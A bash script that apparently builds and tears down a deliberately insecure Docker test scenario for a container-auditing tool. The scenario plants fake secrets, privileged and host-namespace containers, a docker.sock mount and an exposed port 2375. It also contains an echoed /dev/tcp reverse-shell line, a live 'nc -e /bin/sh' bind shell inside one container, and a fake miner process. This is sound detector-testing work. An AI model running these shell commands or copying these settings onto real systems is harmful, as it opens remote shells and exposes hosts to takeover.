#!/usr/bin/env bash
# scenario.sh up|down PREFIX
#
# Builds (up) or removes (down) the live test scenario of scripts/scenario.md on the local Docker
# engine: images made without a registry (docker import of a busybox-static rootfs, then docker build
# FROM it), containers in every state, volumes and networks. Every object carries the labels
# dockaudit.test=1 and dockaudit.scenario=PREFIX (derived images inherit them from the base image).
# `down` removes exactly the objects labelled dockaudit.scenario=PREFIX plus the scenario's own image
# tags, never anything else, and works after an `up` that failed halfway.
#
# Needs: the docker CLI and a reachable engine, a static busybox (Debian: busybox-static).
# Environment: DOCKER_HOST etc. as usual for the docker CLI; BUSYBOX (path of a static busybox);
# SCENARIO_WAIT_SECS (default 90: a loaded 2-core machine can take half a minute to OOM-kill or restart) bounds how long `up` waits for containers to reach their states.
set -euo pipefail

export DOCKER_BUILDKIT=0 # legacy builder: no buildx plugin here, and BuildKit must not try a registry
export DOCKER_CLI_HINTS=false

usage() {
    echo "usage: $0 up|down PREFIX   (PREFIX: lowercase letters, digits and '-', starting with a letter or digit)" >&2
    exit 2
}

[[ $# -eq 2 ]] || usage
ACTION=$1
P=$2
# Image repository names must be lowercase.
[[ $P =~ ^[a-z0-9][a-z0-9-]{0,40}$ ]] || usage

LABELS=(--label dockaudit.test=1 --label "dockaudit.scenario=$P")
FILTER="label=dockaudit.scenario=$P"
IMG="dockaudit-test-$P"
BASE="$IMG-base:1"
GOOD="$IMG-good:1"
BAD="$IMG-bad:1"
BAD_LATEST="$IMG-bad:latest"
UNUSED="$IMG-unused:1"
DANGLING="$IMG-dangling:1"
MOVED="$IMG-moved:1"
OLD="$IMG-old:1"
IMAGE_TAGS=("$BASE" "$GOOD" "$BAD" "$BAD_LATEST" "$UNUSED" "$DANGLING" "$MOVED" "$OLD")
CONTAINERS=(hardened outdated root privileged caps mounts namespaces ports devices nolog norotate secrets procs logs restarting unhealthy exited latest kernel oomkilled hostdata)
VOLUMES=("$P-vol-used" "$P-vol-unused" "$P-vol-etc")
NETWORKS=("$P-net" "$P-net-unused")
# Host directory bind-mounted with rshared propagation by PREFIX-mounts (created only, never started).
SHARED_DIR="${TMPDIR:-/tmp}/dockaudit-test-$P-shared"
# Host directory holding an (empty) `.aws` credentials directory, bind-mounted read-only by
# PREFIX-hostdata (created only, never started).
CREDS_DIR="${TMPDIR:-/tmp}/dockaudit-test-$P-creds"
WAIT_SECS=${SCENARIO_WAIT_SECS:-90}
WORK=
# The repository (for test data the images copy).
REPO=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)

log() { printf '[scenario %s] %s\n' "$P" "$*" >&2; }
die() {
    log "error: $*"
    exit 1
}

# ---------------------------------------------------------------------------------------------- down

down() {
    local failed=() ids left

    ids=$(docker ps -aq --filter "$FILTER")
    if [[ -n $ids ]]; then
        # -v also removes anonymous volumes these containers made; named volumes go below, by label.
        # shellcheck disable=SC2086
        docker rm -f -v $ids >/dev/null || failed+=(containers)
    fi

    # Images: a parent cannot go before its children (legacy-builder intermediates inherit the
    # scenario labels from the base image), so retry in rounds until nothing of ours is left.
    for _ in 1 2 3 4 5 6; do
        ids=$(
            {
                docker images -aq --filter "$FILTER"
                for t in "${IMAGE_TAGS[@]}"; do docker image inspect -f '{{.Id}}' "$t" 2>/dev/null || true; done
            } | sort -u
        )
        [[ -n $ids ]] || break
        # shellcheck disable=SC2086
        docker rmi -f $ids >/dev/null 2>&1 || true
    done

    ids=$(docker volume ls -q --filter "$FILTER")
    if [[ -n $ids ]]; then
        # shellcheck disable=SC2086
        docker volume rm -f $ids >/dev/null || failed+=(volumes)
    fi
    ids=$(docker network ls -q --filter "$FILTER")
    if [[ -n $ids ]]; then
        # shellcheck disable=SC2086
        docker network rm $ids >/dev/null || failed+=(networks)
    fi

    if [[ -d $SHARED_DIR ]]; then rmdir "$SHARED_DIR" || failed+=("$SHARED_DIR"); fi
    if [[ -d $CREDS_DIR ]]; then
        { [[ ! -d $CREDS_DIR/.aws ]] || rmdir "$CREDS_DIR/.aws"; } && rmdir "$CREDS_DIR" || failed+=("$CREDS_DIR")
    fi

    left=$(
        docker ps -aq --filter "$FILTER"
        docker images -aq --filter "$FILTER"
        for t in "${IMAGE_TAGS[@]}"; do docker image inspect -f '{{.Id}}' "$t" 2>/dev/null || true; done
        docker volume ls -q --filter "$FILTER"
        docker network ls -q --filter "$FILTER"
    )
    if [[ -n $left || ${#failed[@]} -gt 0 ]]; then
        die "down left objects of scenario $P behind: ${failed[*]} ${left//$'\n'/ }"
    fi
    log "removed everything labelled dockaudit.scenario=$P"
}

# ------------------------------------------------------------------------------------------------ up

# Fails when any object of this scenario (by label or by name) already exists.
check_clean() {
    local found=() n names
    [[ -z $(docker ps -aq --filter "$FILTER") ]] || found+=("containers labelled dockaudit.scenario=$P")
    [[ -z $(docker images -aq --filter "$FILTER") ]] || found+=("images labelled dockaudit.scenario=$P")
    [[ -z $(docker volume ls -q --filter "$FILTER") ]] || found+=("volumes labelled dockaudit.scenario=$P")
    [[ -z $(docker network ls -q --filter "$FILTER") ]] || found+=("networks labelled dockaudit.scenario=$P")
    names=$(docker ps -a --format '{{.Names}}')
    for n in "${CONTAINERS[@]}"; do
        if grep -qxF "$P-$n" <<<"$names"; then found+=("container $P-$n"); fi
    done
    for n in "${IMAGE_TAGS[@]}"; do
        if docker image inspect "$n" >/dev/null 2>&1; then found+=("image $n"); fi
    done
    for n in "${VOLUMES[@]}"; do
        if docker volume inspect "$n" >/dev/null 2>&1; then found+=("volume $n"); fi
    done
    for n in "${NETWORKS[@]}"; do
        if docker network inspect "$n" >/dev/null 2>&1; then found+=("network $n"); fi
    done
    if [[ -e $SHARED_DIR ]]; then found+=("directory $SHARED_DIR"); fi
    if [[ -e $CREDS_DIR ]]; then found+=("directory $CREDS_DIR"); fi
    if [[ ${#found[@]} -gt 0 ]]; then
        die "scenario $P already exists (${found[*]}); remove it with: $0 down $P"
    fi
}

# Background jobs: `job NAME cmd...` runs cmd in the background with its output in a file;
# `join_jobs` waits for all of them and, if any failed, shows their output and fails.
JOBS=()
job() {
    local name=$1
    shift
    "$@" >"$WORK/job-$name.log" 2>&1 &
    JOBS+=("$name:$!")
}
join_jobs() {
    local j name pid failed=()
    for j in "${JOBS[@]}"; do
        name=${j%%:*}
        pid=${j##*:}
        if ! wait "$pid"; then
            failed+=("$name")
            log "$name failed:"
            grep -v -e 'DEPRECATED: The legacy builder' -e 'BuildKit is currently disabled' \
                -e 'environment-variable' -e '^ *$' "$WORK/job-$name.log" >&2 || true
        fi
    done
    JOBS=()
    [[ ${#failed[@]} -eq 0 ]] || die "failed: ${failed[*]}"
}

find_busybox() {
    local bb
    for bb in "${BUSYBOX:-}" /bin/busybox /usr/bin/busybox "$(command -v busybox 2>/dev/null || true)"; do
        [[ -n $bb && -x $bb ]] || continue
        # The rootfs has no libc, so the binary must be static (ldd fails on a static executable).
        if ldd "$bb" >/dev/null 2>&1; then continue; fi
        echo "$bb"
        return 0
    done
    die "no static busybox found (apt-get install busybox-static)"
}

build_base() {
    local bb rootfs applet
    bb=$(find_busybox)
    rootfs="$WORK/rootfs"
    mkdir -p "$rootfs"/{bin,sbin,usr/bin,usr/sbin,etc,root,home/user,tmp,var/log,var/run,var/spool/cron/crontabs,proc,sys,dev}
    chmod 1777 "$rootfs/tmp"
    chmod 700 "$rootfs/root"
    cp "$bb" "$rootfs/bin/busybox"
    # What `busybox --install -s` does inside the rootfs.
    while read -r applet; do
        [[ -n $applet && $applet != bin/busybox ]] || continue
        mkdir -p "$rootfs/$(dirname "$applet")"
        ln -sf /bin/busybox "$rootfs/$applet"
    done < <("$bb" --list-full)
    cat >"$rootfs/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/sh
user:x:1000:1000:user:/home/user:/bin/sh
nobody:x:65534:65534:nobody:/nonexistent:/bin/false
EOF
    cat >"$rootfs/etc/group" <<'EOF'
root:x:0:
user:x:1000:
nogroup:x:65534:
EOF
    chown 1000:1000 "$rootfs/home/user"
    # The fake sshd PREFIX-procs runs: a script, so the process list shows `/bin/sh /usr/sbin/sshd -D`.
    cat >"$rootfs/usr/sbin/sshd" <<'EOF'
#!/bin/sh
# dockaudit test scenario: a stand-in for OpenSSH's sshd that only sleeps.
while :; do sleep 3600; done
EOF
    chmod 755 "$rootfs/usr/sbin/sshd"
    # On Engine 20.10 `docker import --change` accepts LABEL (and CMD, ENV, USER, ...).
    tar -C "$rootfs" --numeric-owner -cf "$WORK/rootfs.tar" .
    docker import \
        --change "LABEL dockaudit.test=1" \
        --change "LABEL dockaudit.scenario=$P" \
        --change 'CMD ["sleep", "86400"]' \
        "$WORK/rootfs.tar" "$BASE" >/dev/null
}

# build_old: the same rootfs as an image built on 2023-01-15, which `docker import` and `docker
# build` cannot date: a docker-archive (manifest.json, config, one layer) written here with that
# `created` and loaded by the engine (`docker load`), as a `docker save` from an old host would be.
build_old() {
    python3 - "$WORK/rootfs.tar" "$WORK/old.tar" "$OLD" "$P" <<'PY'
import hashlib, io, json, sys, tarfile
rootfs, out, tag, prefix = sys.argv[1:5]
layer = open(rootfs, "rb").read()
created = "2023-01-15T00:00:00Z"
config = json.dumps({
    "architecture": "amd64", "os": "linux", "created": created,
    "config": {"Cmd": ["sleep", "86400"],
               "Labels": {"dockaudit.test": "1", "dockaudit.scenario": prefix}},
    "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(layer).hexdigest()]},
    "history": [{"created": created, "created_by": "dockaudit scenario: an image built long ago"}],
}).encode()
config_name = hashlib.sha256(config).hexdigest() + ".json"
manifest = json.dumps([{"Config": config_name, "RepoTags": [tag], "Layers": ["layer.tar"]}]).encode()
with tarfile.open(out, "w") as archive:
    for name, data in ((config_name, config), ("layer.tar", layer), ("manifest.json", manifest)):
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
PY
    docker load -q -i "$WORK/old.tar" >/dev/null
}

# build TAG CONTEXT_DIR [docker build args...]; the scenario labels come from the base image.
build() {
    local tag=$1 ctx=$2
    shift 2
    docker build -q --rm --force-rm "$@" -t "$tag" "$ctx" >/dev/null
}

build_dangling() {
    # Built twice under one tag: the first build is left dangling (untagged).
    build "$DANGLING" "$WORK/dangling" --label dockaudit.build=1
    build "$DANGLING" "$WORK/dangling" --label dockaudit.build=2
}

# os_release debian|ubuntu: an os-release of a supported Debian (13) or an end-of-life Ubuntu (18.04).
os_release() {
    case $1 in
    debian) printf '%s\n' 'PRETTY_NAME="Debian GNU/Linux 13 (trixie)"' 'NAME="Debian GNU/Linux"' \
        'VERSION_ID="13"' 'VERSION="13 (trixie)"' 'VERSION_CODENAME=trixie' 'ID=debian' ;;
    ubuntu) printf '%s\n' 'NAME="Ubuntu"' 'VERSION="18.04.6 LTS (Bionic Beaver)"' 'ID=ubuntu' 'ID_LIKE=debian' \
        'PRETTY_NAME="Ubuntu 18.04.6 LTS"' 'VERSION_ID="18.04"' 'VERSION_CODENAME=bionic' ;;
    esac
}

# bad_contents DIR: the files the bad image's `COPY contents/ /` adds (scenario.md, "Image contents").
bad_contents() {
    local d=$1
    mkdir -p "$d"/{etc,var/lib/dpkg,usr/local/bin,app/config,app/.git,app/leftover,root/.ssh} \
        "$d"/var/cache/apt/archives "$d"/var/lib/apt/lists
    os_release ubuntu >"$d/etc/os-release"
    # A real Ubuntu 18.04 dpkg database (91 stanzas, 90 installed packages).
    cp "$REPO/crates/scan/tests/data/dpkg/ubuntu-status" "$d/var/lib/dpkg/status"
    printf '%s\n' 'root:x:0:0:root:/root:/bin/sh' 'user:x:1000:1000:user:/home/user:/bin/sh' \
        'nobody:x:65534:65534:nobody:/nonexistent:/bin/false' 'toor:x:0:0:second root:/root:/bin/sh' >"$d/etc/passwd"
    printf '%s\n' 'root::19000:0:99999:7:::' 'user:!:19000:0:99999:7:::' 'nobody:*:19000:0:99999:7:::' \
        'toor:*:19000:0:99999:7:::' >"$d/etc/shadow"
    chmod 640 "$d/etc/shadow"
    printf '#!/bin/sh\necho helper\n' >"$d/usr/local/bin/helper"
    chmod 755 "$d/usr/local/bin/helper"
    printf '%s\n' '[aws]' 'region = eu-west-1' 'aws_access_key_id = AKIA2PLANTEDFAKE7KEY' >"$d/app/config/settings.ini"
    printf '%s\n' '-----BEGIN OPENSSH PRIVATE KEY-----' 'planted-fake-ssh-key-not-a-real-one' \
        '-----END OPENSSH PRIVATE KEY-----' >"$d/root/.ssh/id_rsa"
    chmod 600 "$d/root/.ssh/id_rsa"
    # Added here, deleted by the next layer: must not be reported.
    printf '%s\n' 'API_TOKEN=planted-deleted-token-Zr2Vf9LmXw4Tn7Kp1Yd6' >"$d/app/leftover/.env"
    printf '%s\n' 'ref: refs/heads/main' >"$d/app/.git/HEAD"
    printf '%s\n' '[core]' '    bare = false' >"$d/app/.git/config"
    printf 'not a real package\n' >"$d/var/cache/apt/archives/curl_7.58.0-2ubuntu3_amd64.deb"
    printf 'Origin: Ubuntu\n' >"$d/var/lib/apt/lists/archive.ubuntu.com_ubuntu_dists_bionic_InRelease"
}

build_derived() {
    mkdir -p "$WORK/good" "$WORK/bad" "$WORK/unused" "$WORK/dangling"

    # The good image: a supported OS, and the base's fake sshd deleted (a whiteout in its layer).
    os_release debian >"$WORK/good/os-release"
    printf '%s\n' "FROM $BASE" 'COPY os-release /etc/os-release' 'RUN rm -f /usr/sbin/sshd' \
        'USER 1000:1000' 'HEALTHCHECK CMD true' 'EXPOSE 8080' >"$WORK/good/Dockerfile"
    job build-good build "$GOOD" "$WORK/good"

    echo "a file added with ADD" >"$WORK/bad/payload.txt"
    bad_contents "$WORK/bad/contents"
    printf '%s\n' "FROM $BASE" 'ENV API_SECRET=planted-image-secret-987' 'ADD payload.txt /opt/payload.txt' \
        'RUN apt-get update || true' 'COPY contents/ /' \
        'RUN chmod 4755 /usr/local/bin/helper && rm /app/leftover/.env' 'EXPOSE 8080' >"$WORK/bad/Dockerfile"
    job build-bad build "$BAD" "$WORK/bad"

    printf '%s\n' "FROM $BASE" 'LABEL dockaudit.variant=unused' >"$WORK/unused/Dockerfile"
    job build-unused build "$UNUSED" "$WORK/unused"

    printf '%s\n' "FROM $BASE" >"$WORK/dangling/Dockerfile"
    job build-dangling build_dangling
    join_jobs
    docker tag "$BAD" "$BAD_LATEST"

    # The moved tag: built once here; PREFIX-outdated is created from it, then create_containers
    # builds it again, so the tag names a newer image than the one the container runs.
    mkdir -p "$WORK/moved1" "$WORK/moved2"
    printf '%s\n' "FROM $GOOD" 'LABEL dockaudit.moved=1' >"$WORK/moved1/Dockerfile"
    printf '%s\n' "FROM $GOOD" 'LABEL dockaudit.moved=2' >"$WORK/moved2/Dockerfile"
    build "$MOVED" "$WORK/moved1"
}

# created NAME args...: docker create; running NAME args...: docker run -d
created() {
    local name=$1
    shift
    docker create --name "$P-$name" "${LABELS[@]}" "$@" >/dev/null
}
running() {
    local name=$1
    shift
    docker run -d --name "$P-$name" "${LABELS[@]}" "$@" >/dev/null
}

create_containers() {
    # Started first, as `up` then waits for them to reach their states.
    job restarting running restarting --restart always "$BASE" sh -c 'exit 1'
    job unhealthy running unhealthy --health-cmd false --health-interval 1s --health-retries 1 "$BASE"
    job hardened running hardened --user 1000:1000 --read-only --cap-drop ALL --cgroupns private \
        --security-opt no-new-privileges --memory 64m --cpus 0.5 --pids-limit 64 \
        --health-cmd true --health-interval 2s -p 127.0.0.1::8080 \
        --log-opt max-size=10m --log-opt max-file=3 --restart on-failure:3 \
        --network "$P-net" -v "$P-vol-used:/data" "$GOOD"
    # Hardened like PREFIX-hardened, but its image tag is moved on below: IMG016 only.
    job outdated running outdated --user 1000:1000 --read-only --cap-drop ALL --cgroupns private \
        --security-opt no-new-privileges --memory 64m --cpus 0.5 --pids-limit 64 \
        --health-cmd true --health-interval 2s -p 127.0.0.1::8080 \
        --log-opt max-size=10m --log-opt max-file=3 --restart on-failure:3 \
        --network "$P-net" -v "$P-vol-used:/data" "$MOVED"
    # The planted log secret is assembled at run time so that it is not in the container's command.
    # shellcheck disable=SC2016
    job logs running logs "$BASE" sh -c '
        echo "miner: connecting to stratum+tcp://pool.example.com:3333"
        echo "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
        for i in 1 2 3 4 5 6; do echo "Failed password for root from 10.0.0.9 port 22 ssh2"; done
        s=planted-log; echo "login password=$s-secret-555"
        echo "panic: runtime error: invalid memory address or nil pointer dereference"
        exec sleep 86400'
    # xmrig is a script written at run time, so the process list shows a process named xmrig.
    # busybox nc (Debian's busybox-static) has -e.
    job procs running procs "$BASE" sh -c '
        /usr/sbin/sshd -D &
        nc -l -p 4444 -e /bin/sh &
        crond -f -c /var/spool/cron/crontabs &
        syslogd -n &
        httpd -f -p 8080 -h /tmp &
        printf "#!/bin/sh\nwhile :; do sleep 3600; done\n" >/tmp/xmrig && chmod +x /tmp/xmrig
        /tmp/xmrig --donate-level 1 &
        wait'
    job root running root "$BAD"
    job nolog running nolog --log-driver none "$BASE"
    job secrets running secrets -e DB_PASSWORD=hunter2-planted-db-secret \
        -e AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE \
        --label com.example.api-token=planted-label-token-123456 "$BASE"
    job exited docker run --name "$P-exited" "${LABELS[@]}" "$OLD" true
    # Allocates until the kernel's OOM killer ends it: 8 MiB, no swap (Docker's minimum is 6 MiB).
    job oomkilled running oomkilled --memory 8m --memory-swap 8m "$BASE" tail /dev/zero
    join_jobs

    job privileged created privileged --privileged "$BASE"
    job caps created caps --cap-add SYS_ADMIN --cap-add NET_ADMIN --cap-add CHOWN "$BASE"
    job mounts created mounts -v /etc:/host-etc -v /:/hostroot:ro \
        -v /var/run/docker.sock:/var/run/docker.sock \
        --mount "type=bind,src=$SHARED_DIR,dst=/shared,bind-propagation=rshared" "$BASE"
    job namespaces created namespaces --pid host --ipc host --uts host --userns host --network host \
        --cgroupns host "$BASE"
    job ports created ports -p 2375:2375 -p 22:2222 -p 80:8080 -p '[::]:6379:6379' -P "$GOOD"
    job devices created devices --device /dev/null:/dev/xnull --ulimit core=-1 \
        --cgroup-parent /dockaudit-test --restart always \
        --security-opt seccomp=unconfined --security-opt apparmor=unconfined "$BASE"
    job latest created latest "$BAD_LATEST"
    # json-file with rotation switched off explicitly (-1: unlimited), so LOG002 has a failing case
    # even where daemon.json sets default log-opts: the engine merges those defaults into every
    # json-file container, but an explicit per-container max-size wins.
    job norotate created norotate --log-driver json-file --log-opt max-size=-1 "$BASE"
    # Kernel-facing settings that `docker create` stores as given: a custom seccomp profile that
    # allows everything but reboot, /proc and /sys unmasked, the OOM killer off without a memory
    # limit, two network sysctls that weaken the namespace and a harmless IPC one.
    printf '%s\n' '{"defaultAction": "SCMP_ACT_ALLOW",' \
        ' "syscalls": [{"names": ["reboot"], "action": "SCMP_ACT_ERRNO"}]}' >"$WORK/seccomp-allow.json"
    job kernel created kernel --security-opt "seccomp=$WORK/seccomp-allow.json" \
        --security-opt systempaths=unconfined --oom-kill-disable \
        --sysctl net.ipv4.ip_forward=1 --sysctl net.ipv4.conf.all.route_localnet=1 \
        --sysctl kernel.shmmax=68719476736 "$BASE"
    # Host data beyond the system directories: a credentials directory by name (read-only), and
    # /etc through a local volume created as a bind of it (the mount shows only the volume).
    job hostdata created hostdata --mount "type=bind,src=$CREDS_DIR/.aws,dst=/root/.aws,readonly" \
        -v "$P-vol-etc:/host-etc" "$BASE"
    join_jobs
    # A newer build under PREFIX-outdated's tag (see build_derived).
    build "$MOVED" "$WORK/moved2"
}

state() { docker inspect -f "$2" "$P-$1" 2>/dev/null || true; }
health() { state "$1" '{{if .State.Health}}{{.State.Health.Status}}{{end}}'; }

wait_ready() {
    local deadline=$((SECONDS + WAIT_SECS)) pending n top proc
    while :; do
        pending=()
        n=$(state restarting '{{.RestartCount}}')
        [[ ${n:-0} -ge 5 ]] || pending+=("restarting: RestartCount=${n:-?} (want >= 5)")
        [[ $(health unhealthy) == unhealthy ]] || pending+=("unhealthy: health=$(health unhealthy)")
        [[ $(health hardened) == healthy ]] || pending+=("hardened: health=$(health hardened)")
        [[ $(health outdated) == healthy ]] || pending+=("outdated: health=$(health outdated)")
        if [[ $(state oomkilled '{{.State.OOMKilled}}') != true ]]; then
            pending+=("oomkilled: not OOM-killed yet ($(state oomkilled '{{.State.Status}} exit {{.State.ExitCode}}'))")
            # On the current engine, under CI's load, the flag was missing after 90 s in one run of
            # three (its state then was not recorded; the error below now names it). If the engine
            # recorded the kill as a plain exit, start it again: it is killed again at once.
            if [[ $(state oomkilled '{{.State.Status}}') == exited ]]; then
                docker start "$P-oomkilled" >/dev/null 2>&1 || true
            fi
        fi
        docker logs "$P-logs" 2>&1 | grep -q 'panic: runtime error' || pending+=("logs: lines not printed yet")
        top=$(docker top "$P-procs" 2>/dev/null || true)
        for proc in /usr/sbin/sshd 'nc -l -p 4444 -e /bin/sh' crond syslogd httpd xmrig; do
            grep -qF -- "$proc" <<<"$top" || pending+=("procs: '$proc' not running")
        done
        [[ ${#pending[@]} -gt 0 ]] || return 0
        ((SECONDS < deadline)) || die "containers did not reach their states within ${WAIT_SECS}s: ${pending[*]}"
        sleep 0.5
    done
}

up() {
    docker info >/dev/null 2>&1 || die "docker engine not reachable (docker info failed)"
    check_clean
    local start=$SECONDS
    WORK=$(mktemp -d "${TMPDIR:-/tmp}/dockaudit-scenario-$P.XXXXXX")
    trap 'rm -rf "$WORK"' EXIT

    log "building images"
    build_base
    build_old
    build_derived
    log "images built at +$((SECONDS - start))s; creating volumes, networks and containers"
    docker volume create "${LABELS[@]}" "$P-vol-used" >/dev/null
    docker volume create "${LABELS[@]}" "$P-vol-unused" >/dev/null
    docker volume create "${LABELS[@]}" --opt type=none --opt o=bind --opt device=/etc "$P-vol-etc" >/dev/null
    docker network create "${LABELS[@]}" "$P-net" >/dev/null
    docker network create "${LABELS[@]}" "$P-net-unused" >/dev/null
    mkdir "$SHARED_DIR"
    mkdir -p "$CREDS_DIR/.aws"
    create_containers

    log "containers made at +$((SECONDS - start))s; waiting (at most ${WAIT_SECS}s) for restarting, unhealthy, hardened, outdated, oomkilled, logs, procs"
    wait_ready

    log "up in $((SECONDS - start))s; created:"
    echo "images:"
    docker images -a --filter "$FILTER" --format '  {{.Repository}}:{{.Tag}} {{.ID}}' | sed 's/<none>:<none>/(untagged)/'
    echo "containers:"
    docker ps -a --filter "$FILTER" --format '  {{.Names}}  {{.State}}  {{.Status}}' | sort
    echo "volumes:"
    docker volume ls -q --filter "$FILTER" | sed 's/^/  /'
    echo "networks:"
    docker network ls --filter "$FILTER" --format '{{.Name}}' | sed 's/^/  /'
    echo "host directories:"
    echo "  $SHARED_DIR"
    echo "  $CREDS_DIR"
}

case $ACTION in
    up) up ;;
    down) down ;;
    *) usage ;;
esac
